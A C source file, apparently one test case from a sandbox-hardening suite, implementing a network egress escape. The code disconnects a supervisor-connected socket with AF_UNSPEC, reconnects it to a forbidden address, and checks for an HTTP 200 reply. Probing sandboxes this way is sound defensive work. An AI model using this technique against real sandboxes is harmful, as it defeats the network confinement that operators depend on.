/* A connected socket is disconnected (AF_UNSPEC) and connected to somewhere else: where a
 * supervisor hands sockets of its own into a box, this reached the host. argv: the address and port
 * that may be reached, and those of a service that may not. */
#include "../attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

static struct sockaddr_in to(const char *address, const char *port)
{
	struct sockaddr_in a = {.sin_family = AF_INET,
				.sin_port = htons((uint16_t)strtol(port, NULL, 10))};

	inet_pton(AF_INET, address, &a.sin_addr);
	return a;
}

ATTACK(NETWORK, "egress", .gain = "the host, by a socket that the supervisor connected",
       .source = "connect(2)", .works = OUTSIDE)
{
	struct sockaddr nowhere = {.sa_family = AF_UNSPEC};
	struct sockaddr_in good, bad;
	char answer[64] = "";
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (argc < 5 || fd < 0)
		return NOT_HERE;
	good = to(argv[1], argv[2]);
	bad = to(argv[3], argv[4]);
	if (connect(fd, (struct sockaddr *)&good, sizeof(good)) < 0)
		return -1;
	if (connect(fd, &nowhere, sizeof(nowhere)) < 0 ||
	    connect(fd, (struct sockaddr *)&bad, sizeof(bad)) < 0)
		return -1;
	if (send(fd, "GET / HTTP/1.0\r\n\r\n", 18, MSG_NOSIGNAL) < 0)
		return -1;
	for (size_t n = 0; n < sizeof(answer) - 1;) {
		ssize_t r = recv(fd, answer + n, sizeof(answer) - 1 - n, 0);

		if (r <= 0)
			break;
		n += (size_t)r;
	}
	errno = ECONNRESET;
	return strstr(answer, "200 OK") ? 0 : -1;
}
